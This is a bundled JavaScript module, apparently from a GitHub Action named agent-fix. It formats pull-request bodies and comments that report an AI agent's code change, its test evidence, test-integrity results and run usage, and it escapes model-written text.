/** Escapes text for Markdown/HTML contexts: no tags, no entity tricks, no mentions that ping people. */
function escapeText(text) {
    return text
        .replace(/&/g, '&amp;')
        .replace(/</g, '&lt;')
        .replace(/>/g, '&gt;')
        .replace(/@(?=[A-Za-z0-9])/g, '@\u200b');
}
/** A fenced code block whose fence is longer than any backtick run inside `text`. */
function codeBlock(text, lang = '') {
    const longest = Math.max(2, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
    const fence = '`'.repeat(longest + 1);
    return `${fence}${lang}\n${text.replace(/\n+$/, '')}\n${fence}`;
}
function details(summary, inner) {
    return `<details><summary>${summary}</summary>\n\n${inner}\n\n</details>`;
}
function tail(text, max) {
    if (text.length <= max)
        return text;
    return `[… ${text.length - max} characters cut]\n${text.slice(text.length - max)}`;
}
function describeRun(run) {
    if (!run)
        return 'not run';
    const state = run.timedOut ? 'timed out' : run.passed ? 'passed' : 'failed';
    const c = run.counts;
    const packages = run.unit === 'packages';
    const passed = packages ? `${c?.passed} package${c?.passed === 1 ? '' : 's'} passed` : `${c?.passed} passed`;
    const counts = c
        ? ` — ${passed}, ${c.failed} failed${c.skipped ? `, ${c.skipped} skipped` : ''}${c.errors && packages ? `, ${c.errors} did not build` : ''}`
        : '';
    const why = run.errorLines?.length
        ? `; the runner said: ${run.errorLines.map((l) => `\`${l.replace(/`/g, "'")}\``).join(' ')}`
        : '';
    return `${state} (exit ${run.exitCode ?? 'signal'})${counts}${why}`;
}
/** One line for the `tests-summary` output: `before: failed (exit 1) — 2 passed, 1 failed; after: passed …`. */
function testsSummary(tests) {
    return `before: ${describeRun(tests.baseline)}; after: ${describeRun(tests.final)}`;
}
function fileTable(files) {
    if (files.length === 0)
        return '_No files changed._';
    const rows = files.map((f) => `| \`${f.path.replace(/`/g, "'").replace(/\|/g, '\\|')}\` | +${f.added} | −${f.removed} |`);
    return ['| file | added | removed |', '|---|---:|---:|', ...rows].join('\n');
}
function usageLine(f) {
    const cost = f.costUsd === null ? 'cost unknown' : `$${f.costUsd.toFixed(4)}`;
    const secs = Math.round(f.durationMs / 1000);
    return (`${f.turns} turns · ${f.usage.prompt_tokens.toLocaleString('en-US')} prompt + ${f.usage.completion_tokens.toLocaleString('en-US')} completion tokens` +
        `${f.usage.cached_tokens ? ` (${f.usage.cached_tokens.toLocaleString('en-US')} cached)` : ''} · ${cost} · ${Math.floor(secs / 60)}m ${secs % 60}s · model \`${f.model.replace(/`/g, '')}\``);
}
function requestLine(f) {
    // Issue titles and CI test names are untrusted like model text: no closing keyword or mention may come alive here.
    const what = (0,model_text/* modelText */.ZW)(f.request.description);
    return f.request.url ? `[${what.replace(/[[\]]/g, '\\$&')}](${f.request.url})` : what;
}
// Reasons and scopes carry names the model chose (test files, packages): model text, so no name closes an issue or pings.
const cellText = (s) => (0,model_text/* modelText */.ZW)(s.replace(/\n/g, ' ')).replace(/\|/g, '\\|');
const BEFORE_CELL = { fail: '❌ fails', pass: '✅ passes', missing: '➖ absent (new test)' };
// "passes" only for a test a run of the candidate named passing (verify/fail-to-pass.ts afterCell).
const AFTER_CELL = {
    fail: '❌ fails',
    pass: '✅ passes',
    missing: '➖ not run (absent: removed, deselected or skipped)',
    unknown: '❔ unknown (no run of the change named it)',
    flaky: '⚠️ flaky (failed in a re-run)',
};
/** The fail-to-pass table: one row per test id, what it did on the old code and with the change. */
function failToPassTable(rows, max = 30) {
    const red = rows.filter((t) => t.before !== 'pass' && t.after === 'pass').length;
    const absent = rows.some((t) => t.before === 'missing')
        ? ' "Absent": the test did not exist on the old code, or was not collected there.'
        : '';
    const head = red
        ? `Fail-to-pass: ${red} test${red === 1 ? '' : 's'} red on the old code, green with the change.${absent}`
        : 'Fail-to-pass: no test fails on the old code and passes with the change, so the tests do not prove this change.';
    const out = [head, '', '| test | old code | with the change |', '|---|---|---|'];
    for (const t of rows.slice(0, max)) {
        const id = `\`${t.id.replace(/[`|]/g, "'")}\`${t.scope ? ` (${cellText(t.scope)})` : ''}`;
        const before = `${BEFORE_CELL[t.before] ?? cellText(t.before)}${t.why ? `: ${cellText(t.why)}` : ''}`;
        out.push(`| ${id} | ${before} | ${AFTER_CELL[t.after] ?? cellText(t.after)} |`);
    }
    if (rows.length > max)
        out.push('', `…and ${rows.length - max} more tests.`);
    return out;
}
/** Always one line when the guard's mode is known, so a clean result is visible and not just an absence. */
function integrityLines(f, label = 'Test integrity') {
    if (f.integrityFindings.length) {
        return [`⚠️ ${label} notes:`, ...f.integrityFindings.map((x) => `- ${(0,model_text/* modelText */.ZW)(x)}`)];
    }
    if (!f.integrityMode)
        return [];
    if (f.integrityMode === 'allow')
        return [`${label}: not checked (\`test-edits: allow\`).`];
    const n = f.changedFiles.filter((c) => (0,integrity/* isTestPath */.MQ)(c.path)).length;
    return n
        ? [`${label}: no test removed, skipped or weakened (${n} test file${n === 1 ? '' : 's'} changed).`]
        : [`${label}: no test file changed.`];
}
/**
 * The proof level, said when it is only the suite's exit code (a test-level proof shows in the table), and the
 * runner's report when canary tests did not check it.
 */
function proofLevelLines(f) {
    const check = f.reportCheck;
    return [
        ...(f.proofLevel === 'suite'
            ? [
                "⚠️ Suite-level proof only: the test output could not be read per test, so only the test command's exit code proves this change.",
            ]
            : []),
        ...(check?.status === 'failed' ? [`❌ The test runner's report could not be checked: ${check.reason}.`] : []),
        ...(check?.status === 'unchecked'
            ? [`⚠️ The test runner's report was not checked with canary tests: ${check.reason}.`]
            : []),
    ];
}
/** Which instruction files the agent was given, so a reviewer knows what steered it. */
function instructionFilesLine(f) {
    const files = f.instructionFiles ?? [];
    return files.length
        ? `Instruction files followed: ${files.map((p) => `\`${p.replace(/`/g, "'")}\``).join(', ')}`
        : '';
}
function evidenceSection(f, outputChars) {
    const lines = [
        `Command: \`${f.tests.command.replace(/`/g, "'")}\``,
        '',
        `- Before the change: ${describeRun(f.tests.baseline)}`,
        `- After the change: **${describeRun(f.tests.final)}**`,
    ];
    if (f.failToPass?.length)
        lines.push('', ...failToPassTable(f.failToPass));
    const p2p = passToPassLines(f.passToPass);
    if (p2p.length && (f.passToPass?.broken.length || f.passToPass?.level === 'counts'))
        lines.push('', ...p2p);
    const proof = proofLevelLines(f);
    if (proof.length)
        lines.push('', ...proof);
    const integrity = integrityLines(f);
    if (integrity.length)
        lines.push('', ...integrity);
    if (f.tests.final && outputChars > 0) {
        lines.push('', details('Final test output (tail)', codeBlock(tail(f.tests.final.output, outputChars), 'text')));
    }
    return lines.join('\n');
}
/** Renders with shrinking budgets until the text fits under TARGET. */
function fit(render) {
    const attempts = [
        [6_000, 30_000, 300],
        [3_000, 15_000, 200],
        [1_500, 5_000, 100],
        [500, 0, 50],
        [0, 0, 20],
    ];
    for (const [o, d, n] of attempts) {
        const text = render(o, d, n);
        if (text.length <= TARGET)
            return text;
    }
    const text = render(0, 0, 10);
    return text.length <= TARGET ? text : `${text.slice(0, TARGET - 200)}\n\n[… cut to fit GitHub's limit]\n`;
}
function limitFiles(files, max) {
    const shown = fileTable(files.slice(0, max));
    return files.length > max ? `${shown}\n\n…and ${files.length - max} more files.` : shown;
}
function describeBeforeRun(r) {
    const what = r.filtered ? 'the changed test files' : 'the full test command';
    return `${what}: ${describeRun({ passed: r.passed, exitCode: r.exitCode, counts: r.counts, unit: r.unit, failingIds: [], output: '' })}`;
}
/** A review round's proof: the whole PR against its base first, then what this round did against the PR head. */
function roundEvidence(f, outputChars) {
    const w = f.wholeChange;
    const ctx = f.roundContext;
    const lines = [`Command: \`${f.tests.command.replace(/`/g, "'")}\``, ''];
    if (w) {
        const base = `\`${w.baseBranch.replace(/`/g, "'")}\` (${w.base.slice(0, 7)})`;
        lines.push(`**The whole pull request against ${base}:**`, '');
        const before = w.fail_to_pass?.before_run;
        lines.push(`- On ${base}: ${before ? describeBeforeRun(before) : w.note ? `not run (${(0,model_text/* modelText */.ZW)(w.note)})` : 'not run'}`);
        lines.push(`- With the pull request: **${describeRun(f.tests.final)}**`);
        if (w.fail_to_pass?.tests.length)
            lines.push('', ...failToPassTable(w.fail_to_pass.tests));
        else if (w.fail_to_pass)
            lines.push('', 'Fail-to-pass: no test fails on the base and passes with the pull request.');
    }
    else {
        lines.push('_The whole pull request was not re-proved against its base: this checkout holds no merge base of the base ' +
            "branch and the PR head (use actions/checkout with `fetch-depth: 0`). The round's own proof follows._");
    }
    lines.push('', `**This round** (${roundName(f)}, against the PR head ${ctx.headSha.slice(0, 7)} before it):`, '', `- Before the round: ${describeRun(f.tests.baseline)}`, `- After the round: **${describeRun(f.tests.final)}**`);
    if (f.failToPass?.length)
        lines.push('', ...failToPassTable(f.failToPass));
    const integrity = integrityLines(f, "Test integrity of this round's edits");
    if (integrity.length)
        lines.push('', ...integrity);
    if (f.tests.final && outputChars > 0) {
        lines.push('', details('Final test output (tail)', codeBlock(tail(f.tests.final.output, outputChars), 'text')));
    }
    return lines.join('\n');
}
function roundLine(f) {
    const ctx = f.roundContext;
    const who = `@\u200b${ctx.reviewer.replace(/[^A-Za-z0-9-]/g, '')}`;
    const asked = f.ciRound
        ? `[CI failed on ${ctx.headSha.slice(0, 7)}](${f.ciRound.runUrl ?? f.runUrl})`
        : ctx.feedbackUrl
            ? `[asked by ${who}](${ctx.feedbackUrl})`
            : `asked by ${who}`;
    const files = f.changedFiles.map((c) => `\`${c.path.replace(/`/g, "'")}\` (+${c.added} −${c.removed})`).join(', ');
    const summary = f.summary ? (0,model_text/* modelText */.ZW)(f.summary.trim().replace(/\n+/g, ' ')) : 'no summary';
    const label = f.ciRound ? `CI round ${f.reviewRound}` : `Round ${f.reviewRound}`;
    return `- **${label}** (${asked}): ${clip(summary, 1_500)}${files ? ` Files: ${files}.` : ''}`;
}
/** The PR body after a review round: the original request and summary kept, the rounds listed, the whole PR proved. */
function renderRoundBody(f) {
    const prior = f.roundContext.prior;
    const rounds = [prior.rounds, roundLine(f)].filter(Boolean).join('\n');
    const files = f.wholeChange?.changed_files.length ? f.wholeChange.changed_files : f.changedFiles;
    return fit((outputChars, _diffChars, maxFiles) => [
        `🤖 **agent-fix** made this change, updated it in ${roundName(f)}, and proved the whole pull request with the test command below. Please review it like any contribution.`,
        `**Asked:** ${prior.asked ?? requestLine(f)}`,
        f.fixesIssue ? `Fixes #${f.fixesIssue}` : '',
        '### Summary',
        // The prior sections are our own earlier output (already made safe then), or a maintainer's edit of it.
        prior.summary ?? (f.summary ? (0,model_text/* modelText */.ZW)(f.summary.trim()) : '_The agent gave no summary._'),
        '### Review rounds',
        rounds,
        f.wholeChange?.changed_files.length
            ? `### Changed files (the whole pull request against \`${f.wholeChange.baseBranch.replace(/`/g, "'")}\`)`
            : '### Changed files',
        limitFiles(files, maxFiles),
        '### Test evidence',
        roundEvidence(f, outputChars),
        provenTreeLine(f),
        '### Run',
        usageLine(f),
        ...(f.warnings ?? []).map((w) => `⚠️ ${escapeText(w)}`),
        sandboxLine(f),
        `[Workflow run](${f.runUrl})${f.trajectory ? ` · trajectory: ${escapeText(f.trajectory)}` : ''}`,
        (0,protocol/* markers */.S8)(f),
    ]
        .filter((x) => x !== '')
        .join('\n\n') + '\n');
}
function renderPrBody(f) {
    if (f.roundContext && f.reviewRound)
        return renderRoundBody(f);
    return fit((outputChars, diffChars, maxFiles) => {
        const parts = [
            f.status === 'resolved'
                ? '🤖 **agent-fix** made this change and proved it with the test command below. Please review it like any contribution.'
                : `🚧 **Draft — not resolved.** agent-fix could not make the tests pass${f.reason ? `: ${(0,model_text/* modelText */.ZW)(f.reason)}` : ''}. The partial change is here for a human to continue.`,
            `**Asked:** ${requestLine(f)}`,
            f.fixesIssue ? `Fixes #${f.fixesIssue}` : '',
            '### Summary',
            f.summary ? (0,model_text/* modelText */.ZW)(f.summary.trim()) : '_The agent gave no summary._',
            '### Changed files',
            limitFiles(f.changedFiles, maxFiles),
            '### Test evidence',
            evidenceSection(f, outputChars),
            provenTreeLine(f),
            f.status !== 'resolved' && diffChars > 0 && f.diff
                ? details('Diff', codeBlock(tail(f.diff, diffChars), 'diff'))
                : '',
            '### Run',
            usageLine(f),
            instructionFilesLine(f),
            ...(f.warnings ?? []).map((w) => `⚠️ ${escapeText(w)}`),
            sandboxLine(f),
            `${f.runUrl ? `[Workflow run](${f.runUrl})` : 'Run with the agent-fix CLI'}${trajectoryLink(f)}`,
            (0,protocol/* markers */.S8)(f),
        ];
        return parts.filter((x) => x !== '').join('\n\n') + '\n';
    });
}
/** The proven tree's id: a reviewer compares it with `git rev-parse HEAD^{tree}` of the pushed commit. */
function provenTreeLine(f) {
    if (!f.provenTree || !/^[0-9a-f]{40,64}$/.test(f.provenTree))
        return '';
    return `Proven tree: \`${f.provenTree}\` (the tests ran on a clean checkout of this tree; \`git rev-parse HEAD^{tree}\` of this branch's commit shows the same id).`;
}
function trajectoryLink(f) {
    if (f.trajectoryUrl)
        return ` · [trajectory](${f.trajectoryUrl}) (artifact${f.trajectory ? ` ${escapeText(f.trajectory)}` : ''})`;
    return f.trajectory ? ` · trajectory: ${escapeText(f.trajectory)}` : '';
}
function renderStartComment(f) {
    return `👀 **agent-fix** is working on this: ${modelText(f.description)}.\n\nFollow along in the [workflow run](${f.runUrl}). This comment will be updated with the result.\n\n${taskMarker(f.taskKey)}\n`;
}
function renderPrComment(f, pr) {
    return ([
        `✅ **agent-fix** ${pr.created ? 'opened' : 'updated'} pull request #${pr.number}: ${pr.url}`,
        `Tests: ${describeRun(f.tests.final)} (\`${f.tests.command.replace(/`/g, "'")}\`).`,
        `${usageLine(f)} · [workflow run](${f.runUrl})`,
        markers(f),
    ].join('\n\n') + '\n');
}
/** No PR: what was tried, what still fails, and the partial diff, collapsed. */
function renderUnresolvedComment(f, draftPr) {
    return fit((outputChars, diffChars, maxFiles) => {
        const failing = f.tests.final?.failingIds.length
            ? `Still failing: ${f.tests.final.failingIds
                .slice(0, 20)
                .map((x) => `\`${x.replace(/`/g, "'")}\``)
                .join(', ')}`
            : '';
        const parts = [
            `❌ **agent-fix could not resolve this**${f.reason ? `: ${modelText(f.reason)}` : '.'}`,
            draftPr
                ? `The test command does not pass with the change. A **draft** pull request holds it for a human to continue: ${draftPr.url}`
                : 'No pull request was opened, because the test command does not pass with the change.',
            f.summary ? `**What was tried:**\n\n${modelText(f.summary.trim())}` : '',
            '### Test evidence',
            evidenceSection(f, outputChars),
            failing,
            f.changedFiles.length ? `### Partial change\n\n${limitFiles(f.changedFiles, maxFiles)}` : '_No change was made._',
            f.diff && diffChars > 0 ? details('Partial diff', codeBlock(tail(f.diff, diffChars), 'diff')) : '',
            `${usageLine(f)} · [workflow run](${f.runUrl})`,
            ...(f.warnings ?? []).map((w) => `⚠️ ${escapeText(w)}`),
            markers(f),
        ];
        return parts.filter((x) => x !== '').join('\n\n') + '\n';
    });
}
const PR_PERMISSION_SETTING = 'Settings → Actions → General → "Allow GitHub Actions to create and approve pull requests"';
/** GitHub refused to let the token open a PR; the branch is pushed, so give the branch and a compare link. */
function renderRefusedComment(f, branch) {
    return ([
        `⚠️ **agent-fix pushed a fix, but GitHub refused to open the pull request**: "GitHub Actions is not permitted to create or approve pull requests".`,
        `The fix passed the tests (${describeRun(f.tests.final)}) and is on branch ${inlineCode(branch.name)}. Open the PR yourself: ${branch.compareUrl}`,
        `To let agent-fix open PRs, enable ${PR_PERMISSION_SETTING} (an organization may have to allow it first), or pass a GitHub App token or PAT as \`github-token\`.`,
        `${usageLine(f)} · [workflow run](${f.runUrl})`,
        markers(f),
    ].join('\n\n') + '\n');
}
/** The push failed: the error, and the change itself, so nothing is lost although no branch holds it. */
function renderPushFailedComment(f, message) {
    return fit((_outputChars, diffChars, maxFiles) => [
        `💥 **agent-fix could not push its change**: ${modelText(message.split('\n')[0] ?? message)}`,
        message.includes('\n') ? details('Details', codeBlock(tail(message, 4_000), 'text')) : '',
        `The change ${f.status === 'resolved' ? 'passed the tests' : 'did not pass the tests'} (${describeRun(f.tests.final)}); it is here so nothing is lost. Apply it with \`git apply\`.`,
        f.changedFiles.length ? limitFiles(f.changedFiles, maxFiles) : '',
        f.diff && diffChars > 0 ? details('Diff', codeBlock(tail(f.diff, diffChars), 'diff')) : '',
        `${usageLine(f)} · [workflow run](${f.runUrl})`,
        markers(f),
    ]
        .filter(Boolean)
        .join('\n\n') + '\n');
}
function renderErrorComment(message, f) {
    return ([
        `💥 **agent-fix stopped with an error**: ${modelText(message.split('\n')[0] ?? message)}`,
        message.includes('\n') ? details('Details', codeBlock(tail(message, 8_000), 'text')) : '',
        `See the [workflow run](${f.runUrl}) for the log.`,
        markers(f),
    ]
        .filter(Boolean)
        .join('\n\n') + '\n');
}


/***/ })

};
